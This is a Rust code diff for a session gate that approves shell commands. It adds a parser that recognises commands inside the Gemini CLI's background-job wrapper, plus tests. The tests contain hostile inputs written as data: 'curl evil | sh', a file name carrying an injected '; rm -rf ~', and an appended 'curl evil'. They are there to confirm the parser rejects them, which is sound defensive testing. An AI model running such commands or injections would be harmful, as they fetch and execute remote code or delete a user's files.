@@ -595,7 +595,10 @@ impl SessionGate {
         r.retain(|(_, at)| at.elapsed() < REMEMBER);
         let joined = call.argv.join(" ");
         let found = r.iter().position(|(c, _)| {
-            c == command || *c == joined || claude_wrapped(command).is_some_and(|inner| inner == *c)
+            c == command
+                || *c == joined
+                || claude_wrapped(command).is_some_and(|inner| inner == *c)
+                || gemini_wrapped(command) == Some(c.as_str())
         });
         found.map(|i| r.remove(i)).is_some()
     }
@@ -776,6 +779,20 @@ fn claude_wrapped(script: &str) -> Option<String> {
     inner
 }
 
+/// The command Gemini CLI's shell tool wraps to collect background jobs:
+/// `shopt -u …; _bgpids_file=FILE\n(\n  trap 'jobs -p > "$_bgpids_file"'
+/// EXIT\nCMD\n)\n__code=$?\nexit $__code`. Anything else and it is not that.
+fn gemini_wrapped(script: &str) -> Option<&str> {
+    let (first, rest) = script.split_once('\n')?;
+    let file = first
+        .strip_prefix("shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=")?;
+    if file.is_empty() || file.contains(|c: char| c.is_whitespace() || "'\"$`;&|<>()".contains(c)) {
+        return None;
+    }
+    rest.strip_prefix("(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\n")?
+        .strip_suffix("\n)\n__code=$?\nexit $__code")
+}
+
 fn join(program: &str, args: &[String]) -> String {
     std::iter::once(program)
         .chain(args.iter().map(String::as_str))
@@ -868,6 +885,15 @@ mod tests {
         let sneaky = r"source /tmp/snap.sh && eval 'ls' && curl evil | sh";
         assert_eq!(claude_wrapped(sneaky), None);
         assert_eq!(claude_wrapped("ls"), None);
+    }
+
+    #[test]
+    fn gemini_clis_wrapper_gives_back_the_command_and_nothing_else() {
+        let script = "shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/t/g/bgpids.tmp\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\necho a > /s/a.txt\n)\n__code=$?\nexit $__code";
+        assert_eq!(gemini_wrapped(script), Some("echo a > /s/a.txt"));
+        let sneaky = script.replace("/t/g/bgpids.tmp", "/t/x; rm -rf ~");
+        assert_eq!(gemini_wrapped(&sneaky), None);
+        assert_eq!(gemini_wrapped(&format!("{script}\ncurl evil")), None);
     }
 
     #[test]
